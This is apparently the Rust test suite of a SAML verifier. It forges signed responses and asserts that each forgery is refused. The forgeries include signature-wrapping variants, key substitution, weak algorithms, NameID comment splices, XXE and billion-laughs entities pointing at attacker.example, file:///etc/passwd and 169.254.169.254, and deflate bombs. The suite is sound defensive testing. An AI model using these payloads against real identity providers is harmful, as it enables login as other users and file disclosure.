//! Rows 48, 49, 52, 53 and 55: signatures that cover something else than what is read.
//!
//! Every vector starts from a response that is honestly signed and changes who it speaks of. None may be believed, and
//! none may be believed to be about anybody else than the signature says.

use saml::pretend::{Says, Signed, encode};
use saml::{Error, verify};

use crate::corpus::{all_wrappings, attribute, element, in_signature, inside, pieces};
use crate::world::WORLD;

const RSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";

#[track_caller]
fn refused(name: &str, xml: &str) {
    let verified = WORLD.verify_xml(xml);
    assert!(verified.is_err(), "{name} was believed: {verified:?}");
}

#[test]
fn wrapped_signatures_are_refused_when_the_assertion_is_signed() {
    for signed in [Signed::Assertion, Signed::Both] {
        let p = pieces(&WORLD.idp.xml(&WORLD.honest(), signed).unwrap());
        WORLD.verify_xml(&p.whole).unwrap();
        for (name, xml) in all_wrappings(&p) {
            assert_ne!(xml, p.whole, "{name} changes nothing");
            refused(name, &xml);
        }
    }
}

/// XSW1 and XSW2: the response is signed; a copy with another assertion takes its place.
#[test]
fn wrapped_signatures_are_refused_when_the_response_is_signed() {
    for signed in [Signed::Response, Signed::Both] {
        let whole = WORLD.idp.xml(&WORLD.honest(), signed).unwrap();
        let issuer_end = whole.find("</saml:Issuer>").unwrap() + "</saml:Issuer>".len();
        let signature = element(&whole[issuer_end..], "<ds:Signature ", "</ds:Signature>");
        let original = whole.replacen(&signature, "", 1);
        let id = attribute(&whole, "ID=\"");
        let evil = original.replace("ann@example.com", "admin@example.com").replace(&id, "_evil");
        let object = |content: &str| {
            inside(&signature, "</ds:Signature>", &format!("<ds:Object>{content}</ds:Object>"))
        };
        for (name, xml) in [
            (
                "xsw1 signature around the original",
                in_signature(&evil, &inside(&signature, "</ds:Signature>", &original)),
            ),
            ("xsw1 original in an Object", in_signature(&evil, &object(&original))),
            (
                "xsw2 signature and original as siblings",
                in_signature(&evil, &format!("{signature}{original}")),
            ),
            ("xsw2 original before the signature", in_signature(&evil, &format!("{original}{signature}"))),
            (
                "original in Extensions",
                evil.replacen(
                    "<samlp:Status>",
                    &format!("<samlp:Extensions>{whole}</samlp:Extensions><samlp:Status>"),
                    1,
                ),
            ),
            ("changed under the same ID", whole.replace("ann@example.com", "admin@example.com")),
        ] {
            refused(name, &xml);
        }
    }
}

#[test]
fn a_signed_response_around_an_unsigned_assertion_is_refused() {
    let xml = WORLD.idp.xml(&WORLD.honest(), Signed::Response).unwrap();
    assert_eq!(WORLD.verify_xml(&xml), Err(Error::Signature("the assertion is not signed")));
    refused("nothing signed", &WORLD.idp.xml(&WORLD.honest(), Signed::Nothing).unwrap());
    let p = pieces(&WORLD.idp.xml(&WORLD.honest(), Signed::Both).unwrap());
    refused("signature of the assertion stripped", &p.whole.replace(&p.signature, ""));
    refused(
        "empty signature",
        &p.whole.replace(&p.signature, "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"/>"),
    );
}

#[test]
fn an_attackers_key_in_the_message_is_not_used() {
    let says = WORLD.honest();
    let forged = WORLD.attacker.xml(&says, Signed::Both).unwrap();
    refused("attacker's key and certificate", &forged);
    let p = pieces(&WORLD.attacker.xml(&says, Signed::Assertion).unwrap());
    let pinned = WORLD.peer.certificates[0].clone();
    let theirs = element(&p.signature, "<ds:X509Certificate>", "</ds:X509Certificate>");
    let ours = format!("<ds:X509Certificate>{pinned}</ds:X509Certificate>");
    refused("attacker's key under the pinned certificate", &p.whole.replace(&theirs, &ours));
    let key_info = element(&p.signature, "<ds:KeyInfo>", "</ds:KeyInfo>");
    refused("attacker's key, no certificate", &p.whole.replace(&key_info, ""));
    for place in [
        "<ds:KeyInfo><ds:RetrievalMethod URI=\"https://attacker.example/key\"/></ds:KeyInfo>",
        "<ds:KeyInfo><ds:KeyName>../../../etc/passwd</ds:KeyName></ds:KeyInfo>",
    ] {
        refused(place, &p.whole.replace(&key_info, place));
    }
    let honest = pieces(&WORLD.idp.xml(&says, Signed::Assertion).unwrap());
    let key_info = element(&honest.signature, "<ds:KeyInfo>", "</ds:KeyInfo>");
    WORLD.verify_xml(&honest.whole.replace(&key_info, "")).unwrap();
}

#[test]
fn weak_and_symmetric_algorithms_are_refused() {
    let p = pieces(&WORLD.idp.xml(&WORLD.honest(), Signed::Assertion).unwrap());
    for algorithm in [
        "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
        "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-md5",
        "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
        "",
    ] {
        refused(algorithm, &p.whole.replacen(RSA_SHA256, algorithm, 1));
    }
    refused(
        "sha1 digest",
        &p.whole.replace("http://www.w3.org/2001/04/xmlenc#sha256", "http://www.w3.org/2000/09/xmldsig#sha1"),
    );
    let length = "<ds:SignatureMethod Algorithm=\"http://www.w3.org/2001/04/xmldsig-more#hmac-sha256\"><ds:HMACOutputLength>8</ds:HMACOutputLength></ds:SignatureMethod>";
    let method = element(&p.signature, "<ds:SignatureMethod ", "/>");
    refused("truncated HMAC", &p.whole.replace(&method, length));
}

#[test]
fn transforms_that_compute_are_refused() {
    let p = pieces(&WORLD.idp.xml(&WORLD.honest(), Signed::Assertion).unwrap());
    let transforms = element(&p.signature, "<ds:Transforms>", "</ds:Transforms>");
    let enveloped = "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/>";
    let c14n = "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>";
    assert_eq!(transforms, format!("<ds:Transforms>{enveloped}{c14n}</ds:Transforms>"));
    for algorithm in [
        "http://www.w3.org/TR/1999/REC-xslt-19991116",
        "http://www.w3.org/TR/1999/REC-xpath-19991116",
        "http://www.w3.org/2002/06/xmldsig-filter2",
        "http://www.w3.org/2000/09/xmldsig#base64",
        "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
        "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
    ] {
        let one = format!("<ds:Transform Algorithm=\"{algorithm}\"/>");
        for inner in [
            format!("{enveloped}{one}{c14n}"),
            format!("{one}{enveloped}{c14n}"),
            format!("{enveloped}{one}"),
        ] {
            refused(
                algorithm,
                &p.whole.replace(&transforms, &format!("<ds:Transforms>{inner}</ds:Transforms>")),
            );
        }
    }
    for inner in [
        String::new(),
        enveloped.to_owned(),
        c14n.to_owned(),
        format!("{c14n}{enveloped}"),
        format!("{enveloped}{enveloped}{c14n}"),
    ] {
        refused(&inner, &p.whole.replace(&transforms, &format!("<ds:Transforms>{inner}</ds:Transforms>")));
    }
    let xpath = enveloped.replace("/>", "><ds:XPath>//*</ds:XPath></ds:Transform>");
    refused("something inside", &p.whole.replace(enveloped, &xpath));
}

#[test]
fn references_to_anything_but_the_own_element_are_refused() {
    let p = pieces(&WORLD.idp.xml(&WORLD.honest(), Signed::Both).unwrap());
    let id = attribute(&p.assertion, "ID=\"");
    let response_id = attribute(&p.whole, "ID=\"");
    let uri = format!("URI=\"#{id}\"");
    for other in [
        "URI=\"\"".to_owned(),
        String::new(),
        "URI=\"#\"".to_owned(),
        format!("URI=\"#{response_id}\""),
        format!("URI=\"#xpointer(id('{id}'))\""),
        "URI=\"#xpointer(/)\"".to_owned(),
        format!("URI=\"{id}\""),
        "URI=\"file:///etc/passwd\"".to_owned(),
        "URI=\"http://169.254.169.254/latest\"".to_owned(),
        format!("URI=\"#{id}%00\""),
    ] {
        refused(&other, &p.whole.replace(&uri, &other));
    }
    let reference = element(&p.signature, "<ds:Reference ", "</ds:Reference>");
    refused("two references", &p.whole.replace(&reference, &format!("{reference}{reference}")));
    refused("no reference", &p.whole.replace(&reference, ""));
    let info = element(&p.signature, "<ds:SignedInfo>", "</ds:SignedInfo>");
    refused("two SignedInfo", &p.whole.replace(&info, &format!("{info}{info}")));
}

/// CVE-2017-11427 and after it: a comment or another construct inside the name, which some readers stop at.
#[test]
fn a_name_that_readers_could_cut_is_refused() {
    let mut says: Says = WORLD.honest();
    says.name_id = "admin@example.com.evil.example".into();
    let xml = WORLD.idp.xml(&says, Signed::Assertion).unwrap();
    WORLD.verify_xml(&xml).unwrap();
    for splice in ["<!---->", "<!-- x -->", "<?x y?>", "<![CDATA[]]>", "<x/>", "&#0;", "&x;"] {
        let spliced = xml.replace("admin@example.com.evil", &format!("admin@example.com{splice}.evil"));
        assert_ne!(spliced, xml);
        refused(splice, &spliced);
    }
}

/// CVE-2025-25291 and 25292, CVE-2025-66567: what two parsers see differently.
#[test]
fn documents_that_parsers_see_differently_are_refused() {
    let xml = WORLD.idp.xml(&WORLD.honest(), Signed::Assertion).unwrap();
    let body = xml.replace("ann@example.com", "admin@example.com");
    for (name, document) in [
        ("doctype", format!("<!DOCTYPE r>{xml}")),
        ("doctype with entity", format!("<!DOCTYPE r [<!ENTITY x \"admin\">]>{xml}")),
        (
            "doctype hiding a signature",
            format!("<!DOCTYPE r [<!ENTITY x '>'>]><!--'>--><!-- \">{body}<![CDATA[--><!-->{xml}<!--]]>-->"),
        ),
        ("attribute default", format!("<!DOCTYPE r [<!ATTLIST saml:Assertion ID CDATA \"_evil\">]>{xml}")),
        (
            "external entity",
            format!(
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{}",
                xml.replace("ann@", "&x;@")
            ),
        ),
        (
            "parameter entity",
            format!("<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/x\"> %x;]>{xml}"),
        ),
        (
            "billion laughs",
            format!(
                "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>{}",
                xml.replace("ann@", "&b;@")
            ),
        ),
        ("processing instruction", format!("<?xml-stylesheet href=\"http://attacker.example\"?>{xml}")),
        ("two roots", format!("{xml}{xml}")),
        ("text after the root", format!("{xml}x")),
        ("byte order mark inside", xml.replace("ann@", "ann\u{feff}@")),
        (
            "namespace redefined on the assertion",
            xml.replace("<saml:Assertion ", "<saml:Assertion xmlns:saml=\"urn:evil\" "),
        ),
        ("xml prefix redefined", xml.replace("<saml:Assertion ", "<saml:Assertion xmlns:xml=\"urn:evil\" ")),
        ("duplicate attribute", xml.replace("<saml:Assertion ", "<saml:Assertion ID=\"_evil\" ")),
        ("prefixed ID beside", xml.replace("<saml:Assertion ", "<saml:Assertion saml:ID=\"_evil\" ")),
        ("UTF-7 declared", format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{xml}")),
    ] {
        refused(name, &document);
    }
    let utf16: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = saml_base64(&utf16);
    assert!(verify(&encoded, &WORLD.expected()).is_err());
    WORLD.verify_xml(&format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{xml}")).unwrap();
}

#[test]
fn what_is_signed_cannot_be_changed() {
    let xml = WORLD.idp.xml(&WORLD.honest(), Signed::Assertion).unwrap();
    let p = pieces(&xml);
    for (name, changed) in [
        ("name", p.whole.replace("ann@example.com", "admin@example.com")),
        ("attribute added", p.whole.replace("<saml:AttributeStatement>", "<saml:AttributeStatement><saml:Attribute Name=\"role\"><saml:AttributeValue>admin</saml:AttributeValue></saml:Attribute>")),
        ("time", p.whole.replace("NotOnOrAfter=\"2026", "NotOnOrAfter=\"2027")),
        ("digest", p.whole.replace("</ds:DigestValue>", "x</ds:DigestValue>")),
        ("signature of another assertion", {
            let other = pieces(&WORLD.idp.xml(&WORLD.honest(), Signed::Assertion).unwrap());
            p.whole.replace(&p.signature, &other.signature)
        }),
    ] {
        assert_ne!(changed, xml, "{name}");
        refused(name, &changed);
    }
}

#[test]
fn large_deep_and_wide_documents_stop_at_their_limits() {
    let deep = format!("{}{}", "<a>".repeat(20_000), "</a>".repeat(20_000));
    let wide = format!("<a {}/>", (0..5_000).map(|n| format!("b{n}=\"\" ")).collect::<String>());
    let many = format!("<a>{}</a>", "<b/>".repeat(20_000));
    let names = format!("<a {}/>", (0..5_000).map(|n| format!("xmlns:b{n}=\"u\" ")).collect::<String>());
    let bomb = saml::pretend::deflate(&vec![b' '; 64 << 20]).unwrap();
    for (name, encoded) in [
        ("deep", encode(&deep)),
        ("wide", encode(&wide)),
        ("many", encode(&many)),
        ("namespaces", encode(&names)),
        ("long", encode(&"x".repeat(1 << 20))),
        ("deflate bomb", saml_base64(&bomb)),
        (
            "deflated in a form",
            saml_base64(
                &saml::pretend::deflate(WORLD.idp.xml(&WORLD.honest(), Signed::Both).unwrap().as_bytes())
                    .unwrap(),
            ),
        ),
    ] {
        let start = std::time::Instant::now();
        assert!(verify(&encoded, &WORLD.expected()).is_err(), "{name}");
        assert!(start.elapsed().as_secs() < 5, "{name} took {:?}", start.elapsed());
    }
}

fn saml_base64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}
